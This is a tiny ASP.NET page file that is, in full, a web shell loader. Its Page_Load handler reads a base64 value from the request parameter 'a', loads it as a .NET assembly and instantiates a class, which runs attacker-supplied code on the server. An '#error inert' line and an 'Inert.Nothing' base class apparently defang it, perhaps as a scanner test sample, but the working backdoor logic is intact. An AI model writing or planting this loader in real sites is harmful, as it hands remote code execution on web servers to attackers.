<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.Reflection.Assembly.Load(Convert.FromBase64String(Request["a"])).CreateInstance("K").Equals(this); }
</script>
